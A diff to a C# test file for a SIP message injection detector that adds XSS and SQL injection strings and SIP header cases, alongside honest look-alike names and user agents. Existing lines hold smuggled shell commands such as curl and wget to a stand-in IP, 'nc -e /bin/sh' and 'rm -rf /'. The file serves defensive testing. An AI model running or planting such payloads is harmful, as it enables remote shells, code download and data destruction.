@@ -22,7 +22,9 @@ public sealed class InjectionTests
     [
         "' or 1=1 --", "\\' or \\'1\\'=\\'1", "x'; DROP TABLE cdr; --", "1 UNION ALL SELECT password FROM users", "\\\" or \\\"a\\\"=\\\"a",
         "$(curl http://192.0.2.66/a)", "`id`", "Bob; wget http://192.0.2.66", "Bob | nc -e /bin/sh", "<script>alert(1)</script>", "<ScRiPt src=//x>", "<svg/onload=alert(1)>",
-        "%3Cscript%3E", "&lt;script&gt;", "Bob && rm -rf /",
+        "%3Cscript%3E", "&lt;script&gt;", "Bob && rm -rf /", "<details open ontoggle=alert(1)>", "<style>@import'//x'</style>",
+        "<meta http-equiv=refresh content='0;url=//x'>", "<link rel=stylesheet href=//x>", "x' union/*!50000select*/ 1,2 --", "x' or username is not null --",
+        "x' or exists(select 1)#",
     ];
 
     public static TheoryData<string> HonestNames =>
@@ -30,6 +32,7 @@ public sealed class InjectionTests
         "O'Brien", "D'Angelo & Sons; Inc", "Rock 'n' Roll", "AT&T", "Sales | Berlin", "Smith, John (IT)", "Western Union Select Services", "Fish & Chips; Cat Lovers",
         "50% off", "A=B", "Who? What/Where", "J. \\\"JJ\\\" Abrams", "Müller & Söhne", "It's 5 o'clock or so", "Union Square", "C:\\\\Temp", "1 or 2", "<unknown>", "Script & Co",
         "BEL:\\\u0007 NUL:\\\0", "Customer Support Union", "'Sales' and 'Support'",
+        "<Link Systems>", "Meta <style guide>", "<details>", "It's null and void or is null",
     ];
 
     [Theory]
@@ -98,6 +101,10 @@ public sealed class InjectionTests
     [InlineData("Refer-To: <sip:1%3Bwget%20http://192.0.2.66/x@example.com>")]
     [InlineData("r: <sip:a@example.com>\nb: \"<script>alert(1)</script>\" <sip:a@example.com>")]
     [InlineData("Diversion: \"$(reboot)\" <sip:a@example.com>;reason=unconditional")]
+    [InlineData("Remote-Party-ID: \"' or 1=1--\" <sip:a@example.com>;party=calling")]
+    [InlineData("history-info: <sip:a@example.com>;index=1, \"<script>alert(1)</script>\" <sip:b@example.com>;index=1.1")]
+    [InlineData("Content-Type: application/sdp;x=\"<script>alert(1)</script>\"")]
+    [InlineData("Authorization: Digest username*=UTF-8''x%27%20union%20select%201--, realm=\"r\"")]
     public void Code_in_who_asserts_refers_or_diverts_is_reported(string lines) =>
         Assert.Equal("2012/1", Assert.Single(new MandatoryTester().See(Messages.Invite.And(lines))).ToString());
 
@@ -106,6 +113,10 @@ public sealed class InjectionTests
     [InlineData("Refer-To: <sip:bob@example.com?Replaces=a%40b%3Bto-tag%3D1%3Bfrom-tag%3D2>")]
     [InlineData("Referred-By: <sip:alice@example.com>;cid=\"1.2@example.com\"")]
     [InlineData("Diversion: <sip:+15551234@example.com>;reason=no-answer;counter=1")]
+    [InlineData("Remote-Party-ID: \"O'Brien & Sons\" <sip:+15551234@example.com>;party=calling;screen=yes;privacy=off")]
+    [InlineData("History-Info: <sip:bob@example.com?Reason=SIP%3Bcause%3D486%3Btext%3D%22Busy%20Here%22>;index=1, <sip:carol@example.com;cause=302>;index=1.1;mp=1")]
+    [InlineData("Content-Type: multipart/related;boundary=\"b\";type=\"application/sdp\";start=\"<1'--@example.com>\"")]
+    [InlineData("Authorization: Digest username*=UTF-8''J%C3%A4s%C3%B8n%20Doe, realm=\"r\"")]
     public void An_honest_one_is_silent(string lines) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(lines)));
 
     [Theory]
@@ -137,7 +148,7 @@ public sealed class InjectionTests
         "OpenSIPS (2.4.7 (x86_64/linux))", "kamailio (5.6.3 (x86_64/linux))", "AVM FRITZ!Box 7490 113.06.93 TAL (Dec 22 2017)", "FreeSWITCH-mod_sofia/1.10.9-release+git~20230209T183100Z~45b2b4a7b5~64bit",
         "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "Linphone/3.6.1 (eXosip2/4.0.0)", "pysip/1.0 (Linux; python 3.8)", "MyApp; curl/8.5.0", "Tool (linux; perl; cat 5)",
         "O'Reilly Phone", "Sales & Marketing 'Select' Phone", "SELECT Phone from Acme; union of 50% & more", "Panasonic_KX-HDV230/06.001 (0080f0e3ab12)", "SIP/2.0 100%", "Phone %s", "Phone %s/%d",
-        "Avaya one-X Deskphone \"9641\"", "X-Lite; id=5", "Türklingel/1.0", "%20%41%2f", "Jitsi2.10.5550Linux", "T-Com; OCS; echo cancel",
+        "Avaya one-X Deskphone \"9641\"", "X-Lite; id=5", "Türklingel/1.0", "%20%41%2f", "Jitsi2.10.5550Linux", "<script-free>", "T-Com; OCS; echo cancel",
     ];
 
     [Theory]
